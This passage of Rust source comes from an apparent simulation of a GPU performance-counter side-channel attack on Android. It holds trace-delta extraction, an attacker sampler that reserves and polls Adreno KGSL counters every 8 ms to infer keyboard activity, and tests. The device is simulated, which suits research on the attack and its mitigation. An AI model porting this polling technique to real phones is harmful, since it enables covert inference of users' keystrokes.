            let (pc, cc) = (&quad[2][s..e], &quad[2][s + 1..e + 1]);
            let (pd, cd) = (&quad[3][s..e], &quad[3][s + 1..e + 1]);
            if first {
                for k in 0..cb.len() {
                    cb[k] =
                        ((pa[k] ^ ca[k]) | (pb[k] ^ cb2[k])) | ((pc[k] ^ cc[k]) | (pd[k] ^ cd[k]));
                }
                first = false;
            } else {
                for k in 0..cb.len() {
                    cb[k] |=
                        ((pa[k] ^ ca[k]) | (pb[k] ^ cb2[k])) | ((pc[k] ^ cc[k]) | (pd[k] ^ cd[k]));
                }
            }
        }
        let rem = quads.remainder();
        if rem.len() == 3 {
            let (pa, ca) = (&rem[0][s..e], &rem[0][s + 1..e + 1]);
            let (pb, cb2) = (&rem[1][s..e], &rem[1][s + 1..e + 1]);
            let (pc, cc) = (&rem[2][s..e], &rem[2][s + 1..e + 1]);
            for k in 0..cb.len() {
                cb[k] |= ((pa[k] ^ ca[k]) | (pb[k] ^ cb2[k])) | (pc[k] ^ cc[k]);
            }
        } else {
            for col in rem {
                let (p, c) = (&col[s..e], &col[s + 1..e + 1]);
                for k in 0..cb.len() {
                    cb[k] |= p[k] ^ c[k];
                }
            }
        }
        s = e;
    }
}

/// Incremental delta extraction: the [`Stage`] form of
/// [`extract_deltas_with_resets`], consuming one [`Sample`] at a time and
/// emitting the nonzero [`Delta`]s. Holds only the previous sample, so a
/// live session never materializes the raw trace.
///
/// Counter-reset windows (any counter moving backwards — GPU slumber) emit
/// nothing; extraction re-anchors at the later sample. The reset count is
/// available via [`DeltaStage::resets`] and, together with the emitted-delta
/// count, is published as telemetry at [`Stage::finish`].
#[derive(Debug, Default)]
pub struct DeltaStage {
    prev: Option<Sample>,
    emitted: usize,
    resets: usize,
}

impl DeltaStage {
    /// A fresh extractor with no anchor sample yet.
    pub fn new() -> Self {
        DeltaStage::default()
    }

    /// Counter resets (backward jumps) re-anchored across so far.
    pub fn resets(&self) -> usize {
        self.resets
    }
}

impl Stage for DeltaStage {
    type In = Sample;
    type Out = Delta;

    fn push(&mut self, input: Sample, out: &mut Vec<Delta>) {
        if let Some(prev) = self.prev {
            match input.values.checked_sub(&prev.values) {
                Some(d) => {
                    if !d.is_zero() {
                        out.push(Delta { at: input.at, values: d });
                        self.emitted += 1;
                    }
                }
                None => self.resets += 1,
            }
        }
        self.prev = Some(input);
    }

    fn finish(&mut self, _out: &mut Vec<Delta>) {
        spansight::count("core.trace.deltas", self.emitted as u64);
        if self.resets > 0 {
            spansight::count("core.trace.resets", self.resets as u64);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use adreno_sim::counters::TrackedCounter;

    fn set(v: u64) -> CounterSet {
        let mut c = CounterSet::ZERO;
        c[TrackedCounter::Ras8x4Tiles] = v;
        c
    }

    #[test]
    fn deltas_skip_idle_windows() {
        let mut t = Trace::new();
        t.push(SimInstant::from_millis(0), set(10));
        t.push(SimInstant::from_millis(8), set(10)); // idle
        t.push(SimInstant::from_millis(16), set(25));
        t.push(SimInstant::from_millis(24), set(25)); // idle
        let d = extract_deltas(&t);
        assert_eq!(d.len(), 1);
        assert_eq!(d[0].at, SimInstant::from_millis(16));
        assert_eq!(d[0].values[TrackedCounter::Ras8x4Tiles], 15);
        assert_eq!(d[0].magnitude(), 15);
    }

    #[test]
    fn empty_and_single_sample_traces_have_no_deltas() {
        let mut t = Trace::new();
        assert!(extract_deltas(&t).is_empty());
        t.push(SimInstant::ZERO, set(5));
        assert!(extract_deltas(&t).is_empty());
        assert_eq!(t.len(), 1);
        assert!(!t.is_empty());
    }

    #[test]
    #[should_panic(expected = "time-ordered")]
    fn out_of_order_push_panics() {
        let mut t = Trace::new();
        t.push(SimInstant::from_millis(10), set(1));
        t.push(SimInstant::from_millis(5), set(2));
    }

    #[test]
    fn counter_reset_reanchors_instead_of_fabricating_zero() {
        let mut t = Trace::new();
        t.push(SimInstant::from_millis(0), set(100));
        t.push(SimInstant::from_millis(8), set(130));
        // GPU slumber: registers restart near zero...
        t.push(SimInstant::from_millis(16), set(5));
        // ...and counting resumes from the new anchor.
        t.push(SimInstant::from_millis(24), set(25));
        let (d, resets) = extract_deltas_with_resets(&t);
        assert_eq!(resets, 1);
        assert_eq!(d.len(), 2, "the reset window itself must emit nothing");
        assert_eq!(d[0].at, SimInstant::from_millis(8));
        assert_eq!(d[0].values[TrackedCounter::Ras8x4Tiles], 30);
        assert_eq!(d[1].at, SimInstant::from_millis(24));
        assert_eq!(
            d[1].values[TrackedCounter::Ras8x4Tiles],
            20,
            "re-anchored at the post-reset read"
        );
    }

    #[test]
    fn partial_backward_jump_still_counts_as_reset() {
        // One counter moves forward while another moves backward: cumulative
        // registers cannot do that, so the whole window is a reset.
        let mut a = CounterSet::ZERO;
        a[TrackedCounter::Ras8x4Tiles] = 50;
        a[TrackedCounter::VpcPcPrimitives] = 10;
        let mut b = CounterSet::ZERO;
        b[TrackedCounter::Ras8x4Tiles] = 20; // backwards
        b[TrackedCounter::VpcPcPrimitives] = 60; // forwards
        let mut t = Trace::new();
        t.push(SimInstant::from_millis(0), a);
        t.push(SimInstant::from_millis(8), b);
        let (d, resets) = extract_deltas_with_resets(&t);
        assert!(d.is_empty());
        assert_eq!(resets, 1);
    }

    #[test]
    fn monotone_traces_report_zero_resets() {
        let t: Trace = (0..6)
            .map(|i| Sample { at: SimInstant::from_millis(i * 8), values: set(i * 3) })
            .collect();
        let (d, resets) = extract_deltas_with_resets(&t);
        assert_eq!(resets, 0);
        assert_eq!(d, extract_deltas(&t));
    }

    #[test]
    fn collects_from_iterator() {
        let t: Trace = (0..5)
            .map(|i| Sample { at: SimInstant::from_millis(i * 8), values: set(i * 3) })
            .collect();
        assert_eq!(t.len(), 5);
        assert_eq!(extract_deltas(&t).len(), 4);
    }

    #[test]
    fn soa_views_round_trip_pushed_samples() {
        let samples: Vec<Sample> = (0..4)
            .map(|i| Sample { at: SimInstant::from_millis(i * 8), values: set(i * 7 + 1) })
            .collect();
        let t: Trace = samples.iter().copied().collect();
        assert_eq!(t.timestamps().len(), 4);
        for (i, s) in samples.iter().enumerate() {
            assert_eq!(t.at(i), s.at);
            assert_eq!(t.sample(i), *s);
            assert_eq!(t.column(TrackedCounter::Ras8x4Tiles)[i], (i as u64) * 7 + 1);
        }
        let collected: Vec<Sample> = t.iter().collect();
        assert_eq!(collected, samples);
    }

    #[test]
    fn with_capacity_reserves_every_column() {
        let t = Trace::with_capacity(64);
        assert!(t.ats.capacity() >= 64);
        for col in t.columns() {
            assert!(col.capacity() >= 64);
        }
        assert!(t.is_empty());
    }

    #[test]
    fn batch_extraction_matches_streaming_stage() {
        // Mixed workload: idle windows, activity, and a reset.
        let vals = [100u64, 100, 130, 5, 25, 25, 60];
        let mut t = Trace::new();
        for (i, v) in vals.into_iter().enumerate() {
            t.push(SimInstant::from_millis(i as u64 * 8), set(v));
        }
        let (batch, batch_resets) = extract_deltas_with_resets(&t);
        let mut stage = DeltaStage::new();
        let mut streamed = Vec::new();
        for s in t.iter() {
            stage.push(s, &mut streamed);
        }
        stage.finish(&mut streamed);
        assert_eq!(batch, streamed);
        assert_eq!(batch_resets, stage.resets());
    }
}
