//! The performance-counter sampler.
//!
//! The attacking application's background service reads the eleven tracked
//! counters through `/dev/kgsl-3d0` every few milliseconds (§4). By default
//! the interval is 8 ms — half the 60 Hz frame interval, so every rendered
//! frame is covered by at least one read.
//!
//! Under CPU contention the service gets scheduled late, so reads jitter
//! and occasionally drop (§7.3, Fig 22a). The jitter model lives here, on
//! the attacker's side — the victim UI is unaffected by CPU load.
//!
//! A real background service must also survive an unquiet kernel: ioctls
//! that fail `EBUSY`/`EINTR`, reservations lost across a GPU slumber, file
//! descriptors revoked by driver recovery, and policies that flip
//! mid-session (all injectable via [`kgsl::fault`]). The sampler therefore
//! retries transient errors with bounded sim-time backoff, re-runs the
//! reservation loop when the device forgot it, reopens the device file when
//! its fd dies, and keeps going through policy denials — a single read slot
//! is abandoned only once its retry budget is spent, and `sample_until`
//! fails only when it acquired *nothing at all*. Everything it survived is
//! tallied in a [`SamplerReport`].

use adreno_sim::counters::{ALL_TRACKED, NUM_TRACKED};
use adreno_sim::time::{SimDuration, SimInstant};
use android_ui::UiSimulation;
use kgsl::abi::{
    IoctlRequest, KgslPerfcounterGet, KgslPerfcounterPut, KgslPerfcounterReadGroup,
    IOCTL_KGSL_PERFCOUNTER_GET, IOCTL_KGSL_PERFCOUNTER_PUT, IOCTL_KGSL_PERFCOUNTER_READ,
};
use kgsl::{DeviceResult, Errno, KgslDevice, KgslFd, SelinuxDomain};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use std::sync::Arc;

use crate::trace::{Sample, Trace};

/// Default reading interval (§4: "equal to or slightly smaller than half of
/// the screen refresh interval" — 8 ms at 60 Hz).
pub const DEFAULT_INTERVAL: SimDuration = SimDuration::from_millis(8);

/// How hard the sampler fights for each individual read slot.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct RetryPolicy {
    /// Failed attempts tolerated per read slot before it is abandoned.
    pub max_retries: u32,
    /// First backoff delay; doubles after every failed attempt until it
    /// reaches [`max_backoff`](Self::max_backoff).
    pub initial_backoff: SimDuration,
    /// Ceiling on the per-attempt backoff delay. Without it the doubling
    /// schedule blows past the session end after a handful of failures;
    /// with it a persistent fault costs a bounded, predictable amount of
    /// sim-time per slot.
    pub max_backoff: SimDuration,
}

impl RetryPolicy {
    /// The default budget: 8 attempts starting at 0.5 ms of backoff and
    /// capped at 4 ms, which keeps even a fully-backed-off slot within a
    /// few 60 Hz frames.
    pub fn default_bounded() -> Self {
        RetryPolicy {
            max_retries: 8,
            initial_backoff: SimDuration::from_micros(500),
            max_backoff: SimDuration::from_millis(4),
        }
    }

    /// Fail-stop behaviour: the first error abandons the slot.
    pub fn none() -> Self {
        RetryPolicy { max_retries: 0, ..RetryPolicy::default_bounded() }
    }

    /// A budget of `max_retries` attempts with the default backoff.
    pub fn with_budget(max_retries: u32) -> Self {
        RetryPolicy { max_retries, ..RetryPolicy::default_bounded() }
    }
}

impl Default for RetryPolicy {
    fn default() -> Self {
        RetryPolicy::default_bounded()
    }
}

/// Sampler configuration.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct SamplerConfig {
    /// Nominal interval between reads.
    pub interval: SimDuration,
    /// Background CPU utilisation on the victim device, `0.0..=1.0`; drives
    /// scheduling jitter and dropped reads.
    pub cpu_load: f64,
    /// RNG seed for the jitter model.
    pub seed: u64,
    /// Per-read-slot retry budget for device errors.
    pub retry: RetryPolicy,
}

impl SamplerConfig {
    /// 8 ms reads on an otherwise idle device.
    pub fn default_8ms() -> Self {
        SamplerConfig {
            interval: DEFAULT_INTERVAL,
            cpu_load: 0.0,
            seed: 0,
            retry: RetryPolicy::default_bounded(),
        }
    }
}

impl Default for SamplerConfig {
    fn default() -> Self {
        SamplerConfig::default_8ms()
    }
}

/// What the sampler lived through, accumulated across every `sample_until`
/// call on the same instance.
#[derive(Debug, Default, Clone, Copy, PartialEq, Eq)]
pub struct SamplerReport {
    /// Read slots the scheduler actually attempted.
    pub attempted: u64,
    /// Slots that produced a sample.
    pub acquired: u64,
    /// Slots skipped by the CPU-load model before any ioctl (benign).
    pub scheduler_drops: u64,
    /// Slots abandoned after exhausting the retry budget (or a denial).
    pub abandoned: u64,
    /// `EBUSY`/`EINTR` failures observed.
    pub transient_errors: u64,
    /// `EACCES`/`EPERM` failures observed.
    pub denied_reads: u64,
    /// `EBADF` failures observed (fd revoked under us).
    pub revocations_seen: u64,
    /// `EINVAL` failures observed (reservations forgotten, e.g. slumber).
    pub reservation_losses: u64,
    /// Successful reopen + re-reserve cycles after a revocation.
    pub fd_reopens: u64,
    /// Successful re-reservation passes on the existing fd.
    pub reservations_reacquired: u64,
    /// Total retry attempts consumed.
    pub retries_spent: u64,
}

/// Bucket edges of the per-slot retry-count histogram
/// (`core.sampler.slot_retries`): 0 retries, 1, 2, ≤4, ≤8, overflow.
pub const RETRY_HIST_EDGES: &[u64] = &[0, 1, 2, 4, 8];

/// Bucket edges of the chosen backoff-delay histogram
/// (`core.sampler.retry_backoff_us`), in microseconds. The capped
/// exponential schedule lands its jittered delays across these.
pub const BACKOFF_HIST_EDGES: &[u64] = &[250, 500, 1_000, 2_000, 4_000];

impl SamplerReport {
    /// The field-wise difference `self - earlier` (each field saturates at
    /// zero). Used to attribute one `sample_until` call's worth of events
    /// out of the cumulative report.
    pub fn diff(&self, earlier: &SamplerReport) -> SamplerReport {
        SamplerReport {
            attempted: self.attempted.saturating_sub(earlier.attempted),
            acquired: self.acquired.saturating_sub(earlier.acquired),
            scheduler_drops: self.scheduler_drops.saturating_sub(earlier.scheduler_drops),
            abandoned: self.abandoned.saturating_sub(earlier.abandoned),
            transient_errors: self.transient_errors.saturating_sub(earlier.transient_errors),
            denied_reads: self.denied_reads.saturating_sub(earlier.denied_reads),
            revocations_seen: self.revocations_seen.saturating_sub(earlier.revocations_seen),
            reservation_losses: self.reservation_losses.saturating_sub(earlier.reservation_losses),
            fd_reopens: self.fd_reopens.saturating_sub(earlier.fd_reopens),
            reservations_reacquired: self
                .reservations_reacquired
                .saturating_sub(earlier.reservations_reacquired),
            retries_spent: self.retries_spent.saturating_sub(earlier.retries_spent),
        }
    }

    /// Publishes this report's (non-zero) fields as `core.sampler.*`
    /// telemetry counters.
    pub fn count_telemetry(&self) {
        for (name, value) in [
            ("core.sampler.attempted", self.attempted),
            ("core.sampler.acquired", self.acquired),
            ("core.sampler.scheduler_drops", self.scheduler_drops),
            ("core.sampler.abandoned", self.abandoned),
            ("core.sampler.transient_errors", self.transient_errors),
            ("core.sampler.denied_reads", self.denied_reads),
            ("core.sampler.revocations_seen", self.revocations_seen),
            ("core.sampler.reservation_losses", self.reservation_losses),
            ("core.sampler.fd_reopens", self.fd_reopens),
            ("core.sampler.reservations_reacquired", self.reservations_reacquired),
            ("core.sampler.retries_spent", self.retries_spent),
        ] {
            if value > 0 {
                spansight::count(name, value);
            }
        }
    }

    /// Fraction of attempted read slots that produced a sample (1.0 when
    /// nothing was ever attempted).
    pub fn coverage(&self) -> f64 {
        if self.attempted == 0 {
            1.0
        } else {
            self.acquired as f64 / self.attempted as f64
        }
    }

    /// Total device faults observed, of any kind.
    pub fn faults_seen(&self) -> u64 {
        self.transient_errors + self.denied_reads + self.revocations_seen + self.reservation_losses
    }
}

/// A sampler bound to one open device-file handle with the eleven counters
/// reserved.
#[derive(Debug)]
pub struct Sampler {
    fd: KgslFd,
    config: SamplerConfig,
    rng: StdRng,
    report: SamplerReport,
    /// Reusable block-read request buffer: the `(groupid, countable)` pairs
    /// never change between reads, so [`Sampler::read_once`] only overwrites
    /// the `value` slots instead of heap-allocating a request vector on
    /// every one of the ~113k read slots of a session.
    scratch: [KgslPerfcounterReadGroup; NUM_TRACKED],
}

/// The block-read request entries for the eleven Table-1 counters, in
/// [`ALL_TRACKED`] order, with zeroed value slots.
fn read_request_template() -> [KgslPerfcounterReadGroup; NUM_TRACKED] {
    std::array::from_fn(|i| {
        let id = ALL_TRACKED[i].id();
        KgslPerfcounterReadGroup::new(id.group.kgsl_id(), id.countable)
    })
}

/// State of one incremental sampling pass (see [`Sampler::start_stream`]).
///
/// Owns the pass's bookkeeping — the grid cursor, the deadline, the last
/// device error — so the [`Sampler`] can hand out samples one at a time
/// without materialising a [`Trace`]. Dropping the stream without calling
/// [`Sampler::finish_stream`] skips the pass's telemetry but leaves the
/// sampler itself consistent.
pub struct SampleStream {
    until: SimInstant,
    next: SimInstant,
    last_err: Option<Errno>,
    acquired: u64,
    report_before: SamplerReport,
    /// The device handle, cloned once at stream start so the per-slot loop
    /// never touches the simulation's `Arc` again.
    device: Arc<KgslDevice>,
    /// Per-slot retry counts, pre-bucketed against [`RETRY_HIST_EDGES`].
    /// Accumulated locally and published as one
    /// `core.sampler.slot_retries` histogram merge at
    /// [`Sampler::finish_stream`], replacing a telemetry-record call per
    /// slot with one per pass.
    retry_buckets: [u64; RETRY_HIST_EDGES.len() + 1],
    /// Chosen (jittered) backoff delays, pre-bucketed against
    /// [`BACKOFF_HIST_EDGES`] in microseconds; published alongside the
    /// retry-count histogram.
    backoff_buckets: [u64; BACKOFF_HIST_EDGES.len() + 1],
    _span: spansight::Span,
}

/// The pid the attacking app pretends to run as (any unprivileged pid).
const ATTACKER_PID: u32 = 31337;

/// Runs `f`, retrying immediately up to `budget` times while it fails with a
/// transient errno (`EBUSY`/`EINTR`). Setup-path helper: unlike the sampling
/// loop there is no sim-time to back off against, and an immediate retry of
/// an interrupted syscall is exactly what libc wrappers do.
fn retry_transient<T>(budget: u32, mut f: impl FnMut() -> DeviceResult<T>) -> DeviceResult<T> {
    let mut attempts = 0;
    loop {
        match f() {
            Ok(value) => return Ok(value),
            Err(err) if err.is_transient() && attempts < budget => attempts += 1,
            Err(err) => return Err(err),
        }
    }
}

impl Sampler {
    /// Opens the device file as an unprivileged app and reserves the eleven
    /// Table-1 counters via `IOCTL_KGSL_PERFCOUNTER_GET`.
    ///
    /// # Errors
    ///
    /// Propagates device-file errors — notably `EACCES` when the §9.2
    /// access-control mitigation denies counter reservation. On any failure
    /// nothing is leaked: counters acquired before the failing one are
    /// released and the fd is closed. Transient errors (`EBUSY`/`EINTR`)
    /// are retried per call within the configured budget.
    pub fn open(device: &KgslDevice, config: SamplerConfig) -> DeviceResult<Self> {
        let budget = config.retry.max_retries;
        let fd =
            retry_transient(budget, || device.open(ATTACKER_PID, SelinuxDomain::UntrustedApp))?;
        if let Err(err) = Self::reserve_all(device, fd, budget) {
            let _ = device.close(fd);
            return Err(err);
        }
        Ok(Sampler {
            fd,
            config,
            rng: StdRng::seed_from_u64(config.seed ^ 0x5a5a),
            report: SamplerReport::default(),
            scratch: read_request_template(),
        })
    }

    /// Reserves all eleven tracked counters on `fd`, retrying each transient
    /// `GET` failure up to `budget` times. On a definitive mid-loop failure
    /// the counters already acquired are released (best-effort) so the
    /// handle holds either everything or nothing.
    fn reserve_all(device: &KgslDevice, fd: KgslFd, budget: u32) -> DeviceResult<()> {
        for (i, c) in ALL_TRACKED.iter().enumerate() {
            let id = c.id();
            let result = retry_transient(budget, || {
                let mut get = KgslPerfcounterGet {
                    groupid: id.group.kgsl_id(),
                    countable: id.countable,
                    ..Default::default()
                };
                device.ioctl(fd, IOCTL_KGSL_PERFCOUNTER_GET, IoctlRequest::PerfcounterGet(&mut get))
            });
            if let Err(err) = result {
                for prev in &ALL_TRACKED[..i] {
                    let pid = prev.id();
                    let put = KgslPerfcounterPut {
                        groupid: pid.group.kgsl_id(),
                        countable: pid.countable,
                    };
                    let _ = device.ioctl(
                        fd,
                        IOCTL_KGSL_PERFCOUNTER_PUT,
                        IoctlRequest::PerfcounterPut(put),
                    );
                }
                return Err(err);
            }
        }
        Ok(())
    }

    /// The sampler's device-file handle.
    pub fn fd(&self) -> KgslFd {
        self.fd
    }

    /// Everything this sampler has survived so far.
    pub fn report(&self) -> SamplerReport {
        self.report
    }

    /// Performs one block-read of all eleven counters.
    ///
    /// # Errors
    ///
    /// Propagates device errors (`EACCES` under the DenyAll policy, …).
    pub fn read_once(&mut self, device: &KgslDevice) -> DeviceResult<adreno_sim::CounterSet> {
        // The request ids are fixed at construction; the ioctl only fills
        // the `value` slots, so the scratch buffer is reused as-is.
        device.ioctl(
            self.fd,
            IOCTL_KGSL_PERFCOUNTER_READ,
            IoctlRequest::PerfcounterRead(&mut self.scratch),
        )?;
        let mut out = [0u64; NUM_TRACKED];
        for (o, r) in out.iter_mut().zip(self.scratch.iter()) {
            *o = r.value;
        }
        Ok(adreno_sim::CounterSet::from_array(out))
    }

    /// Scheduling delay of the next read: a small baseline wobble (timer
    /// slack — even an idle Android schedules a polling service a little
    /// late, which is where mid-draw "split" reads come from) plus an
    /// exponential tail whose mean grows superlinearly with CPU
    /// utilisation, mimicking CFS latency under contention.
    fn jitter(&mut self) -> SimDuration {
        let base = SimDuration::from_nanos(self.rng.gen_range(0..1_200_000));
        let load = self.config.cpu_load;
        if load <= 0.0 {
            return base;
        }
        let mean_ns = self.config.interval.as_nanos() as f64 * load * load * 1.2;
        let u: f64 = self.rng.gen_range(1e-9..1.0);
        base + SimDuration::from_nanos((-u.ln() * mean_ns) as u64)
    }

    /// Whether this read gets skipped entirely (the service missed its
    /// slot); only happens at high CPU load.
    fn dropped(&mut self) -> bool {
        let p = (self.config.cpu_load - 0.5).max(0.0) * 0.5;
        p > 0.0 && self.rng.gen::<f64>() < p
    }

    /// Samples the victim simulation from its current time until `until`,
    /// advancing the simulation between reads. Returns the raw trace.
    ///
    /// Device errors no longer stop the stream: each read slot is retried
    /// within the configured [`RetryPolicy`] (reopening the fd or re-running
    /// the reservation loop when the device forgot about us), and a slot
    /// whose budget runs out is simply skipped — degrading the trace rather
    /// than killing the session.
    ///
    /// # Errors
    ///
    /// Fails only when *no* read succeeded over the whole span — e.g. a
    /// policy denying everything from the start — returning the last error
    /// observed.
    pub fn sample_until(
        &mut self,
        sim: &mut UiSimulation,
        until: SimInstant,
    ) -> DeviceResult<Trace> {
        let mut stream = self.start_stream(sim, until);
        // One read per interval plus the slot at the start of the grid: size
        // every trace column up front so a long session never re-grows them.
        let slots = until.saturating_since(sim.now()).as_nanos()
            / self.config.interval.as_nanos().max(1)
            + 2;
        let mut trace = Trace::with_capacity(slots as usize);
        while let Some(s) = self.next_sample(&mut stream, sim) {
            trace.push(s.at, s.values);
        }
        self.finish_stream(stream)?;
        Ok(trace)
    }

    /// Begins an incremental sampling pass over `sim` ending at `until`.
    /// Drive it with [`Sampler::next_sample`] and close it with
    /// [`Sampler::finish_stream`]; [`Sampler::sample_until`] is exactly
    /// that loop with the samples collected into a [`Trace`].
    pub fn start_stream(&mut self, sim: &UiSimulation, until: SimInstant) -> SampleStream {
        let mut span = spansight::span("core", "sampler.sample_until");
        span.sim_range(sim.now().as_nanos(), until.as_nanos());
        SampleStream {
            until,
            next: sim.now(),
            last_err: None,
            acquired: 0,
            report_before: self.report,
            device: Arc::clone(sim.device()),
            retry_buckets: [0; RETRY_HIST_EDGES.len() + 1],
            backoff_buckets: [0; BACKOFF_HIST_EDGES.len() + 1],
            _span: span,
        }
    }

    /// Advances the simulation slot by slot until one read produces a
    /// sample, which it returns; `None` once the stream's deadline passes.
    /// Retry, recovery and reporting behave exactly as in
    /// [`Sampler::sample_until`] — abandoned or dropped slots are skipped,
    /// not surfaced.
    pub fn next_sample(
        &mut self,
        stream: &mut SampleStream,
        sim: &mut UiSimulation,
    ) -> Option<Sample> {
        let device = Arc::clone(&stream.device);
        while stream.next <= stream.until {
            let at = stream.next + self.jitter();
            let at = if at > stream.until { stream.until } else { at };
            sim.advance_to(at);
            let mut produced = None;
            if !self.dropped() {
                self.report.attempted += 1;
                let retries_before = self.report.retries_spent;
                // Backoff may advance the clock, so the sample is stamped
                // with the time the read actually completed.
                match self.read_resilient(sim, &device, stream.until, &mut stream.backoff_buckets) {
                    Ok(values) => {
                        self.report.acquired += 1;
                        produced = Some(Sample { at: sim.now(), values });
                    }
                    Err(err) => {
                        self.report.abandoned += 1;
                        stream.last_err = Some(err);
                    }
                }
                let retries = self.report.retries_spent - retries_before;
                stream.retry_buckets[spansight::Hist::bucket_of(RETRY_HIST_EDGES, retries)] += 1;
            } else {
                self.report.scheduler_drops += 1;
            }
            let resumed = sim.now();
            stream.next += self.config.interval;
            if resumed > stream.next {
                // A long stall: resume on the next grid point after it.
                let missed = resumed.saturating_since(stream.next).as_nanos()
                    / self.config.interval.as_nanos().max(1);
                stream.next += self.config.interval * (missed + 1);
            }
            if let Some(sample) = produced {
                stream.acquired += 1;
                return Some(sample);
            }
        }
        None
    }

    /// Closes an incremental sampling pass: publishes the pass's telemetry
    /// and fails only when *no* read succeeded over the whole span (same
    /// contract as [`Sampler::sample_until`]).
    ///
    /// # Errors
    ///
    /// The last device error observed, iff the pass acquired nothing.
    pub fn finish_stream(&mut self, stream: SampleStream) -> DeviceResult<()> {
        spansight::record_bucketed(
            "core.sampler.slot_retries",
            RETRY_HIST_EDGES,
            &stream.retry_buckets,
        );
        spansight::record_bucketed(
            "core.sampler.retry_backoff_us",
            BACKOFF_HIST_EDGES,
            &stream.backoff_buckets,
        );
        self.report.diff(&stream.report_before).count_telemetry();
        if stream.acquired == 0 {
            if let Some(err) = stream.last_err {
                return Err(err);
            }
        }
        Ok(())
    }

    /// Deterministic jitter for one retry delay: a SplitMix64 hash of the
    /// sampler seed and the global retry counter, mapped onto
    /// `[0.75, 1.25) × base`. Kept off `self.rng` on purpose — enabling
    /// retries must never perturb the scheduling-jitter stream that shapes
    /// fault-free traces.
    fn jittered_backoff(&self, base: SimDuration) -> SimDuration {
        let mut z =
            self.config.seed ^ self.report.retries_spent.wrapping_mul(0x9E37_79B9_7F4A_7C15);
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^= z >> 31;
        let frac = 0.75 + (z >> 11) as f64 / (1u64 << 53) as f64 * 0.5;
        base.mul_f64(frac)
    }

    /// One read slot under the retry budget: classify each failure, attempt
    /// the matching recovery, back off in sim-time (capped exponential with
    /// seeded jitter, each chosen delay bucketed into `backoff_buckets`),
    /// and try again.
    fn read_resilient(
        &mut self,
        sim: &mut UiSimulation,
        device: &KgslDevice,
        until: SimInstant,
        backoff_buckets: &mut [u64; BACKOFF_HIST_EDGES.len() + 1],
    ) -> DeviceResult<adreno_sim::CounterSet> {
        let mut backoff = self.config.retry.initial_backoff;
        let mut failures = 0u32;
        loop {
            let err = match self.read_once(device) {
                Ok(values) => return Ok(values),
                Err(err) => err,
            };
            match err {
                // Transient by definition: worth a plain retry.
                Errno::Ebusy | Errno::Eintr => self.report.transient_errors += 1,
                // Our fd died (driver recovery revoked it): reopen the
                // device file and re-reserve everything on the new handle.
                Errno::Ebadf => {
                    self.report.revocations_seen += 1;
                    if self.reacquire(device).is_ok() {
                        self.report.fd_reopens += 1;
                    }
                }
                // The device forgot our reservations (GPU slumber): re-run
                // the reservation loop on the existing fd.
                Errno::Einval => {
                    self.report.reservation_losses += 1;
                    if Self::reserve_all(device, self.fd, self.config.retry.max_retries).is_ok() {
                        self.report.reservations_reacquired += 1;
                    }
                }
                // A policy denial is not transient: give the slot up
                // immediately but keep the stream alive — the policy may
                // flip back before the next slot.
                Errno::Eacces | Errno::Eperm => {
                    self.report.denied_reads += 1;
                    return Err(err);
                }
                Errno::Enodev => return Err(err),
            }
            failures += 1;
            if failures > self.config.retry.max_retries {
                return Err(err);
            }
            self.report.retries_spent += 1;
            let delay = self.jittered_backoff(backoff);
            backoff_buckets[spansight::Hist::bucket_of(BACKOFF_HIST_EDGES, delay.as_micros())] += 1;
            let wake = sim.now() + delay;
            if wake > until {
                // Out of session time: no point sleeping past the end.
                return Err(err);
            }
            sim.advance_to(wake);
            backoff = (backoff * 2).min(self.config.retry.max_backoff);
        }
    }

    /// Opens a fresh handle and moves the sampler onto it (after an fd
    /// revocation). The reservation loop must fully succeed, otherwise the
    /// new fd is closed again and the old (dead) one is kept.
    fn reacquire(&mut self, device: &KgslDevice) -> DeviceResult<()> {
        let budget = self.config.retry.max_retries;
        let fd =
            retry_transient(budget, || device.open(ATTACKER_PID, SelinuxDomain::UntrustedApp))?;
        if let Err(err) = Self::reserve_all(device, fd, budget) {
            let _ = device.close(fd);
            return Err(err);
        }
        self.fd = fd;
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use adreno_sim::counters::TrackedCounter;
    use android_ui::keyboard::Key;
    use android_ui::sim::SimConfig;
    use kgsl::AccessPolicy;

    fn quiet_sim(seed: u64) -> UiSimulation {
        UiSimulation::new(SimConfig { system_noise_hz: 0.0, ..SimConfig::paper_default(seed) })
    }

    #[test]
    fn sampler_reads_on_the_8ms_grid() {
        let mut sim = quiet_sim(1);
        let mut s = Sampler::open(sim.device(), SamplerConfig::default_8ms()).unwrap();
        let trace = s.sample_until(&mut sim, SimInstant::from_millis(400)).unwrap();
        assert_eq!(trace.len(), 51, "reads at 0, 8, …, 400 ms");
        for w in trace.timestamps().windows(2) {
            // Grid spacing ± the baseline timer-slack wobble.
            let gap = (w[1] - w[0]).as_micros();
            assert!((6_500..=9_500).contains(&gap), "gap {gap}us off the jittered grid");
        }
    }

    #[test]
    fn idle_windows_show_no_change_and_key_presses_do() {
        let mut sim = quiet_sim(2);
        sim.tap_key(SimInstant::from_millis(600), Key::Char('w'), SimDuration::from_millis(90));
        let mut s = Sampler::open(sim.device(), SamplerConfig::default_8ms()).unwrap();
        let trace = s.sample_until(&mut sim, SimInstant::from_millis(1_000)).unwrap();
        let deltas = crate::trace::extract_deltas(&trace);
        // Initial render, blinks at 500ms/1000ms, popup, echo, hide.
        assert!(deltas.len() >= 4, "expected several changes, got {}", deltas.len());
        // At least one delta must carry popup-sized primitive counts.
        assert!(deltas.iter().any(|d| d.values[TrackedCounter::VpcPcPrimitives] > 50));
    }

    #[test]
    fn cpu_load_jitters_the_schedule() {
        let mut sim = UiSimulation::new(SimConfig {
            system_noise_hz: 0.0,
            cpu_load: 0.75,
            ..SimConfig::paper_default(3)
        });
        let cfg = SamplerConfig { cpu_load: 0.75, ..SamplerConfig::default_8ms() };
        let mut s = Sampler::open(sim.device(), cfg).unwrap();
        let trace = s.sample_until(&mut sim, SimInstant::from_millis(2_000)).unwrap();
        // Jitter + drops → noticeably fewer than the nominal 251 reads and
        // irregular spacing.
        assert!(trace.len() < 245, "expected drops, got {}", trace.len());
        let irregular =
            trace.timestamps().windows(2).filter(|w| (w[1] - w[0]).as_millis() != 8).count();
